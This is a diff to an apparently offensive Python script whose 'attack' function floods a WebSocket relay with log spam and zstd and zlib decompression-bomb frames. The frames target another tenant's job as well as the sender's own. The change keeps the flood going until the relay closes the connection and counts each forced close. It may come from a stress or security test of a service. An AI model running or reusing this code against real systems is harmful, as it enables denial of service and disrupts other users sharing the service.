@@ -81,16 +81,23 @@ async def attack(ws_url: str, base_url: str, key: str, token: str, tenant: str, 
                     frames = [_bomb(foreign, 1, 0, zstd, 2), _bomb(foreign, 1, 1, zlib_bomb, 1)]
                     if own is not None:
                         frames += [_bomb(own[0], own[1], 0, zstd, 2), _bomb(own[0], own[1], 1, zlib_bomb, 1)]
+                    reader = asyncio.create_task(_drain(ws))  # so the relay's close is seen
                     i = 0
-                    while not ws.closed:
+                    while not reader.done():
                         await ws.send_str(flood)
                         await ws.send_bytes(frames[i % len(frames)])
                         sent["logs"] += 1000
                         sent["bombs"] += 1
                         i += 1
+                    sent["closes"] = sent.get("closes", 0) + 1
             except (aiohttp.ClientError, ConnectionError, RuntimeError):
                 pass
             print(json.dumps(sent), flush=True)
+
+
+async def _drain(ws: Any) -> None:
+    async for _ in ws:  # errors and acks, read and ignored; ends when the relay closes
+        pass
 
 
 async def _own_job(http: aiohttp.ClientSession, base_url: str, api: dict[str, str], ws: Any) -> tuple[str, int] | None:
